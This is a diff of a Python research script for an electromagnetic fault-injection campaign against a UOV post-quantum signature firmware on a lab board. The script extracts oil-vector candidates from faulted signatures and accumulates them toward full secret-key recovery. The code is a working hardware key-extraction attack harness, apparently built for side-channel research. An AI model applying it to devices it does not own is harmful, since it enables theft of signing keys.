@@ -1,10 +1,7 @@
 
 # local imports
-from ast import main
-from turtle import reset
 from chipshouter_profiler.CWUtils import ChipWhisperer
 from chipshouter_profiler.CSUtils import ChipShouter
-from chipshouter_profiler.config_classes import GlitchConfig, TargetConfig, SimpleSerialPacket
 
 from chipshouter_profiler.simpleserial.simpleserial import TargetSerial
 
@@ -17,40 +14,118 @@ import os
 import sys
 import ctypes
 import subprocess
-import traceback
 import time
-from dataclasses import dataclass, asdict
-import json
-import copy
-import signal
-
+import queue
+import threading
+import traceback
 
-from tenacity import RetryError
+import numpy as np
 
 from verification_utils import verify_signature, calculate_oil
+import gf256
+import public_key
+import result_log
 
 
 current_dir = os.path.dirname(os.path.abspath(__file__))
-library_path = os.path.join(current_dir, "build")
-shared_lib = ctypes.CDLL(os.path.join(library_path, "validation_functions-test.so"))
 
-last_result = "crash" # crash (unresponsive) / nofault (valid signature) / fault (invalid signature)
-last_parsed_data = {}
-oil_candidates = []
-oil_candidates_validity = []
+# Known content of the vinegar part of the target's signature buffer (`sm` + 256, 68 bytes),
+# None if unknown. A faulted signature is XORed with it to get the oil candidate.
+buffer_reference = None
+num_fault_runs = 0
+num_reference_runs = 0
+num_candidates = 0
+num_valid_candidates = 0
+results = None # append-only result log of the campaign (result_log.ResultLog)
+fault_queue = None # faulted signatures waiting for the fault workers
+fault_workers = [] # threads extracting, screening and logging oil candidates
+oil_space = None # incremental echelon basis of the valid oil candidates
+
+# Message signed by the target, the firmware signs zeros unless a message is sent with the start signal
+MESSAGE = bytes(256)
 
 def send_packet(target_serial, cmd, data=None):
     cmd = TargetSerial.type_convert_cmd(cmd)
     target_serial.send_packet(cmd, data)
 
-def main(build=False, flash=False, home=False):
-    global last_result, last_parsed_data
+class PulseGeneratorSession:
+    """
+    One DelayController connection for a whole campaign.
+
+    Every change uploads the full parameter set; the parameters last sent are cached
+    only to skip calls that would not change anything, so repeated shots with the same
+    configuration cost no serial traffic and no open/close. On serial errors the
+    connection is reopened and the parameters are sent again.
+    """
+
+    def __init__(self, port="/dev/ttyACM1", retries=3):
+        self.port = port
+        self.retries = retries
+        self.controller = None
+        self.dc = None
+        self.sent = None
+
+    def __enter__(self):
+        self.connect()
+        return self
+
+    def __exit__(self, exc_type, exc_value, traceback):
+        self.close()
+
+    def connect(self):
+        self.controller = DelayController(port=self.port)
+        self.dc = self.controller.__enter__()
+        # state of a fresh connection is unknown, send everything again
+        self.sent = None
+
+    def close(self):
+        if self.controller is not None:
+            try:
+                self.controller.__exit__(None, None, None)
+            except OSError:
+                pass
+        self.controller = None
+        self.dc = None
+        self.sent = None
+
+    def set_parameters(self, parameters):
+        if parameters == self.sent:
+            return
+        attempts = self.retries + 1
+        for attempt in range(attempts):
+            try:
+                if self.dc is None:
+                    self.connect()
+                self.dc.set_parameters(dict(parameters))
+            except OSError as e: # serial.SerialException is an OSError
+                print(f"Pulse generator error ({e}) in attempt {attempt + 1}/{attempts}, reconnecting")
+                self.close()
+                time.sleep(0.5)
+            else:
+                self.sent = dict(parameters)
+                return
+        raise RuntimeError(f"Pulse generator on {self.port} not reachable")
+
+def main(build=False, flash=False, home=False, whitebox=False, pk_path=os.path.join(current_dir, "keys", "pk.h"), target_rank=44, pulsegen_port="/dev/ttyACM1", workers=2, readout="full", log_path=None):
+    global num_fault_runs, num_reference_runs, oil_space, results, fault_queue, fault_workers
+
+    # Public map for black-box screening of oil candidates (P_k(o) == 0 for all k)
+    public_map = gf256.QuadraticMap(public_key.load_pk(pk_path))
+
+    # Rank of the leaked oil space, the campaign stops once it reaches target_rank
+    # (1 is enough for Kipnis-Shamir, m = 44 recovers the full oil space)
+    oil_space = gf256.EchelonBasis(public_map.n)
 
     def reset_target(timeout=5000, retries=3):
+        global buffer_reference
+        buffer_reference = None
         reset_seq = target_serial._reset_sequence
         for _ in range(retries):
             cw.reset_target()
             if target_serial.read_until(reset_seq, timeout).endswith(reset_seq):
+                # `sm` is a global (.bss) that the ATTACK build never clears between runs,
+                # the startup code zeroes it on every boot
+                buffer_reference = bytes(68)
                 return 0
 
     def arm_chipshouter():
@@ -58,6 +133,7 @@ def main(build=False, flash=False, home=False):
         try:
             cs.arm()
         except Exception as e:
+            print(f"ChipShouter arm failed ({e}), clearing faults")
             cs.clear_faults()
             time.sleep(0.5)
 
@@ -71,14 +147,11 @@ def main(build=False, flash=False, home=False):
             raise RuntimeError("ChipShouter is not ready for trigger (trigger_safe failed)!")
 
     def crash_handler():
-        global last_result
         print(f"offset: {pulse_offset} ; execution {exec_index}/{num_executions}: Target unresponsive")
+        results.shot(0, config_index, "crashes", run=run)
         reset_target()
-        last_result = "crash"
 
     def attack_data_handler(data):
-        global last_result, last_parsed_data
-        
         target_serial.send_ack('d')
 
         # Receive all chunks of `sm` and join them back together
@@ -86,6 +159,7 @@ def main(build=False, flash=False, home=False):
             try:
                 cmd, raw_data = target_serial.read_packet()
             except Exception as e:
+                print(f"Reading signature chunk failed ({e})")
                 crash_handler()
                 return
             else: # if no exception was raised
@@ -105,32 +179,96 @@ def main(build=False, flash=False, home=False):
             ]
         parsed_data = TargetSerial.parse_packet_data_struct(data, fields)
 
+        handle_signature(parsed_data)
+
+    def signature_data_handler(data):
+        # Signature-only readout (firmware built with READOUT=sig): the whole signature
+        # arrives in one packet, no acknowledge and no end packet
+        if len(data) != 128:
+            print(f"ERROR: signature packet with {len(data)} bytes (expected 128)")
+            crash_handler()
+            return
+        handle_signature({"msg": MESSAGE, "sig": bytes(data)})
+
+    def handle_signature(parsed_data):
+        global buffer_reference
+
         result = verify_signature(parsed_data['msg'], parsed_data['sig'])
         if result == 0: # Signature is correct (no fault occurred)
             print(f"offset: {pulse_offset} ; execution {exec_index}/{num_executions}: No fault (correct signature)")
-            last_result = "nofault"
-            last_parsed_data = dict(parsed_data)
+            results.shot(0, config_index, "nofaults", {"msg": bytes(parsed_data['msg']).hex().upper(), "sig": bytes(parsed_data['sig']).hex().upper()}, run=run)
+            # the buffer keeps this signature until the next run
+            buffer_reference = bytes(parsed_data['sig'][:68])
         else: # Signature is incorrect (fault occurred)
+            # Candidate extraction and screening run in the fault workers while the target resets
+            fault_queue.put((dict(parsed_data), buffer_reference, config_index, run))
             reset_target()
-            last_result = "fault"
-            parsed_data["oil_candidate"] = bytes(a ^ b for (a, b) in zip(parsed_data['sig'][:68], last_parsed_data['sig'][:68])) + parsed_data['sig'][68:112]
-            oil_candidates.append(parsed_data["oil_candidate"].hex().upper())
-            print(f"OIL CANDIDATE[{len(oil_candidates)}]: {parsed_data['oil_candidate'].hex()}")
-
-            # parsed_data["msg"]
-            # parsed_data["sig"]
-            # parsed_data["oil_candidate"]
-            # public key can be loaded from keys/pk.h
-
-            # Validation calculate oil with known private key and check (Would normally be done with kipnis-shamir recon)
-            parsed_data["expected_oil"] = calculate_oil(parsed_data["msg"], parsed_data["sig"])
-
-            if parsed_data["expected_oil"] == parsed_data["oil_candidate"]: # Signature includes correct oil
-                oil_candidates_validity.append(True)
-                print("    CORRECT")
-            else: # Signature does not include correct oil
-                oil_candidates_validity.append(False)
-                print("    INCORRECT")
+
+    def process_fault(parsed_data, reference, config_index, run):
+        global num_candidates, num_valid_candidates
+
+        data = {"msg": bytes(parsed_data["msg"]).hex().upper(), "sig": bytes(parsed_data["sig"]).hex().upper()}
+        if reference is None:
+            print("ERROR: faulted signature without reference run, skipping")
+            results.shot(0, config_index, "faults", data, run=run)
+            return
+        candidate = bytes(a ^ b for (a, b) in zip(parsed_data["sig"][:68], reference)) + parsed_data['sig'][68:112]
+
+        # Screen candidate with the public key only: valid oil vectors vanish on all public forms
+        oil = np.frombuffer(candidate, dtype=np.uint8)
+        valid = public_map.is_oil(oil)
+
+        # White-box validation: calculate oil with known private key and compare
+        if whitebox:
+            expected_oil = calculate_oil(parsed_data["msg"], parsed_data["sig"])
+
+        data["oil"] = candidate.hex().upper()
+        if whitebox:
+            data["expected_oil"] = expected_oil.hex().upper()
+
+        # Lines of one candidate are printed together, the log stays parseable with several workers
+        with results_lock:
+            num_candidates += 1
+            results.shot(0, config_index, "valid_oil" if valid else "invalid_oil", data, run=run)
+            if valid:
+                num_valid_candidates += 1
+            lines = [f"OIL CANDIDATE[{num_candidates}]: {candidate.hex()}"]
+            if valid:
+                lines.append("    VALID")
+                if oil_space.add(oil):
+                    lines.append(f"    OIL SPACE RANK: {oil_space.rank}")
+            else:
+                lines.append("    INVALID")
+            if whitebox:
+                if expected_oil == candidate: # Signature includes correct oil
+                    lines.append("    CORRECT")
+                else: # Signature does not include correct oil
+                    lines.append("    INCORRECT")
+            print("\n".join(lines))
+
+    def fault_worker():
+        while True:
+            item = fault_queue.get()
+            if item is None:
+                return
+            try:
+                process_fault(*item)
+            except Exception:
+                traceback.print_exc()
+
+    # Every shot is appended to the result log, nothing is kept in memory
+    # (rebuild the JSON summary with `python3 result_log.py summary <log>`)
+    if log_path is None:
+        log_path = os.path.join(current_dir, "results", f"attack_{time.strftime('%Y%m%d-%H%M%S')}.jsonl")
+    results = result_log.ResultLog(log_path)
+    print(f"Result log: {log_path}")
+
+    # Consumers: verify-independent host work on faulted signatures
+    fault_queue = queue.Queue()
+    results_lock = threading.Lock()
+    fault_workers = [threading.Thread(target=fault_worker, name=f"fault-worker-{i}", daemon=True) for i in range(workers)]
+    for worker in fault_workers:
+        worker.start()
 
     # ---------------------------------------------------------------------------- #
     #         Glitch Configuration (Adjust according to profiling results)         #
@@ -144,7 +282,7 @@ def main(build=False, flash=False, home=False):
     pulse_offsets = [358984420] # 358985195 also works well
     num_executions = 500
     dead_timeout = 1000
-    
+
     # -------------------------- Second chip (STM32F405) ------------------------- #
     # position = [24.575, 3.831, 15.59]
     # voltage = 300
@@ -172,10 +310,9 @@ def main(build=False, flash=False, home=False):
     # ---------------------------------------------------------------------------- #
     #                  Build firmware, Flash target, Home xyzTable                 #
     # ---------------------------------------------------------------------------- #
-    current_dir = os.path.dirname(os.path.abspath(__file__))
     if build:
         subprocess.run(
-            ["make", f"target-attack"],
+            ["make", f"target-attack", f"READOUT={readout}"],
             cwd=current_dir,
             check=True
             # stdout=subprocess.DEVNULL
@@ -185,6 +322,8 @@ def main(build=False, flash=False, home=False):
     if home:
         table.home_all()
 
+    results.campaign([position], ["valid_oil", "invalid_oil"], firmware="target-attack", readout=readout, whitebox=whitebox, pk=pk_path)
+
     # Move to target position
     x, y, z = position
     table.move_absolute(x, y, z)
@@ -194,52 +333,98 @@ def main(build=False, flash=False, home=False):
     target_serial.flush()
     reset_target()
 
+    # One pulse generator session for the whole campaign, the full parameter set is uploaded whenever it differs from the last upload (and after every reconnect)
+    with PulseGeneratorSession(port=pulsegen_port) as dc:
+        for config_index, pulse_offset in enumerate(pulse_offsets):
+            if oil_space.rank >= target_rank:
+                break
+
+            results.glitch_config(config_index, {
+                "voltage": voltage,
+                "pulse_width": pulse_width,
+                "pulse_spacing": 50,
+                "pulse_repeats": 0,
+                "pulse_offset": pulse_offset,
+                "num_executions": num_executions,
+                "dead_timeout": dead_timeout,
+            })
 
-    for pulse_offset in pulse_offsets:
-        with DelayController(port="/dev/ttyACM1") as dc:
             dc.set_parameters({"offset": pulse_offset, "length": pulse_width, "spacing": 50, "repeats": 0})
 
-        for exec_index in range(num_executions):
-            # If target crashed during last fault injection, generate one signature without faulting to get known val
-            if last_result != "nofault":
-                with DelayController(port="/dev/ttyACM1") as dc:
+            for exec_index in range(num_executions):
+                if oil_space.rank >= target_rank:
+                    print(f"Target oil space rank {target_rank} reached, stopping campaign")
+                    break
+
+                # Fault whenever the buffer content is known (after a clean run or a reset),
+                # otherwise generate one signature without faulting to get the known value
+                if buffer_reference is None:
                     dc.set_parameters({"offset": pulse_offset, "length": 5, "spacing": 50, "repeats": 0})
-                print("nonfault-run")
-            else:
-                with DelayController(port="/dev/ttyACM1") as dc:
+                    num_reference_runs += 1
+                    run = "reference"
+                    print("nonfault-run")
+                else:
                     dc.set_parameters({"offset": pulse_offset, "length": pulse_width, "spacing": 50, "repeats": 0})
-                print("fault-run")
+                    num_fault_runs += 1
+                    run = "fault"
+                    print("fault-run")
 
-            send_packet(target_serial, "s") # TODO (optional): Allow custom messages (sent to target with start signal)
+                send_packet(target_serial, "s") # TODO (optional): Allow custom messages (sent to target with start signal)
 
 
-            if target_serial.wait_ack("s") != 0:
-                crash_handler()
-            else:
-                # Read next packet from target
-                try:
-                    cmd, raw_data = target_serial.read_packet(timeout=dead_timeout)
-                except Exception as e:
+                if target_serial.wait_ack("s") != 0:
                     crash_handler()
-                else: # No exception was raised -> response packet received
-                    attack_data_handler(raw_data)
+                else:
+                    # Read next packet from target
+                    try:
+                        cmd, raw_data = target_serial.read_packet(timeout=dead_timeout)
+                    except Exception as e:
+                        print(f"Reading response failed ({e})")
+                        crash_handler()
+                    else: # No exception was raised -> response packet received
+                        if cmd == target_serial.type_convert_cmd('g'):
+                            signature_data_handler(raw_data)
+                        else:
+                            attack_data_handler(raw_data)
 
     # Finish campaign
     cs.disarm()
 
+    finish_campaign()
+
+# Wait for the workers to process the remaining faulted signatures and close the result log.
+# Also runs after an interrupted campaign, calling it again does nothing
+def finish_campaign():
+    global fault_workers
+    for worker in fault_workers:
+        fault_queue.put(None)
+    for worker in fault_workers:
+        worker.join()
+    fault_workers = []
+    if results is not None:
+        results.close()
 
-def print_results(sig=None, frame=None):
+
+def print_results():
     print("################## RESULTS ##################")
-    print(f"OIL CANDIDATES[{len(oil_candidates)}]: ")
-    print(oil_candidates)
-    print("VALIDITY: ")
-    print(oil_candidates_validity)
-    sys.exit(0)
+    print(f"OIL CANDIDATES: {num_candidates} ({num_valid_candidates} valid)")
+    if oil_space is not None:
+        print(f"OIL SPACE RANK: {oil_space.rank}")
+    print(f"FAULT RUNS: {num_fault_runs}, REFERENCE RUNS: {num_reference_runs}")
+    if results is not None:
+        print(f"RESULT LOG: {results.path}")
 
 if __name__ == '__main__':
     build = False
     flash = False
     home = False
+    whitebox = False
+    pk_path = os.path.join(current_dir, "keys", "pk.h")
+    target_rank = 44
+    pulsegen_port = "/dev/ttyACM1"
+    workers = 2
+    readout = "full"
+    log_path = None
     if len(sys.argv) > 1:
         # Build firmware (based on target_config)
         if "--build" in sys.argv or "-b" in sys.argv:
@@ -250,8 +435,35 @@ if __name__ == '__main__':
         # Home xyz table on commandline argument
         if "--home" in sys.argv or "-h" in sys.argv:
             home = True
-
-
-    signal.signal(signal.SIGINT, print_results)
-    main(build, flash, home)
+        # Additionally validate oil candidates with the known secret key (shared library)
+        if "--whitebox" in sys.argv or "-w" in sys.argv:
+            whitebox = True
+        # Public key used for screening oil candidates
+        if "--pk" in sys.argv:
+            pk_path = sys.argv[sys.argv.index("--pk") + 1]
+        # Stop once the valid candidates span this many oil dimensions (1 = Kipnis-Shamir, 44 = full key)
+        if "--target-rank" in sys.argv:
+            target_rank = int(sys.argv[sys.argv.index("--target-rank") + 1])
+        # Serial port of the pulse generator (Pico)
+        if "--pulsegen-port" in sys.argv:
+            pulsegen_port = sys.argv[sys.argv.index("--pulsegen-port") + 1]
+        # Number of threads extracting, screening and logging oil candidates
+        if "--workers" in sys.argv:
+            workers = int(sys.argv[sys.argv.index("--workers") + 1])
+        # Build the firmware with signature-only readout (one packet per signature)
+        if "--readout-sig" in sys.argv:
+            readout = "sig"
+        # Append-only result log (default: results/attack_<date>-<time>.jsonl)
+        if "--log" in sys.argv:
+            log_path = sys.argv[sys.argv.index("--log") + 1]
+
+    if workers < 1:
+        sys.exit("ERROR: --workers has to be at least 1")
+
+    # Ctrl+C stops the campaign, the faulted signatures already read are still processed and logged
+    try:
+        main(build, flash, home, whitebox, pk_path, target_rank, pulsegen_port, workers, readout, log_path)
+    except KeyboardInterrupt:
+        print("Campaign interrupted, processing the queued faulted signatures ...")
+        finish_campaign()
     print_results()
\ No newline at end of file